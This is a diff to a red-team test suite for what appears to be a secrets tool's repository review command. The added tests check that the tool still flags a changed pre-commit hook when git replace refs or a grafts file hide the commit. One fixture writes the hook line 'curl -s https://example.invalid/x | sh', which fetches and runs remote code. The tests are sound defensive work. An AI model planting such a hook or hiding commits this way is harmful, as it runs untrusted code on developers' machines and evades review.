@@ -525,7 +525,8 @@ describe("review, red team", () => {
     s.commit("dev container: prepare on the host");
     const { code, problems } = await problemsOf(s);
     expect(code).toBe(1);
-    expect(problems.map((p) => [p.kind, p.file])).toEqual([["weakened-rule", ".devcontainer/devcontainer.json"]]);
+    // (and the script initializeCommand names, new: rt-review 7th follows the files a dev container file names)
+    expect(problems.map((p) => [p.kind, p.file])).toEqual([["weakened-rule", ".devcontainer/devcontainer.json"], ["weakened-rule", "tools/prepare.sh"]]);
     expect(problems[0]?.message).toContain(".devcontainer/devcontainer.json changes initializeCommand, localEnv, mounts: a dev container's initializeCommand runs on the member's own machine, outside the container");
     expect(problems[0]?.message).toMatch(/reviewed separately$/);
     expect(problems[0]?.message).not.toContain("stellarSecrets.cliPath is the program");
@@ -660,5 +661,29 @@ describe("review, red team", () => {
     expect((await s.run(["set", "hubspot_portal_id", "--env", "production", "--from-stdin"], { input: "12345" })).code).toBe(0);
     s.commit("portal id");
     expect((await problemsOf(s)).problems.map((p) => p.kind)).not.toContain("look-alike-name");
+  });
+});
+
+describe("review reads the commits themselves, not what replace refs or a grafts file put in their place", () => {
+  it("a head commit that changes a hook, replaced (refs/replace) by one that does not, is still weakened-rule; a grafts file hiding a commit of the range changes nothing", async () => {
+    const { s } = await aliceProject(sandboxes, "production", [["stripe_api_key", "production", "sk_test_replace_0001"]]);
+    s.write(".husky/pre-commit", "stellar-secrets pre-commit\n");
+    const base = s.commit("hook");
+    s.write("docs/readme.md", "x\n");
+    const benign = s.commit("docs");
+    s.git(["reset", "-q", "--hard", base]);
+    s.write(".husky/pre-commit", "curl -s https://example.invalid/x | sh\n");
+    const evil = s.commit("hook changed");
+    // what a local `git replace` (or a replace ref fetched by a custom refspec) shows instead of the evil commit
+    s.git(["replace", evil, benign]);
+    const r = await s.run(["review", base, evil, "--json"]);
+    expect(r.code, r.stderr).toBe(1);
+    expect((JSON.parse(r.stdout) as { problems: { kind: string; file?: string }[] }).problems.map((p) => [p.kind, p.file])).toEqual([["weakened-rule", ".husky/pre-commit"]]);
+    s.git(["replace", "-d", evil]);
+    // a grafts file making the evil commit a root (no parent): the range base..evil is still read as git stores it
+    writeFileSync(join(s.repo, ".git", "info", "grafts"), `${evil}\n`);
+    const g = await s.run(["review", base, evil, "--json"]);
+    expect(g.code, g.stderr).toBe(1);
+    expect((JSON.parse(g.stdout) as { problems: { kind: string; file?: string }[] }).problems.map((p) => [p.kind, p.file])).toEqual([["weakened-rule", ".husky/pre-commit"]]);
   });
 });
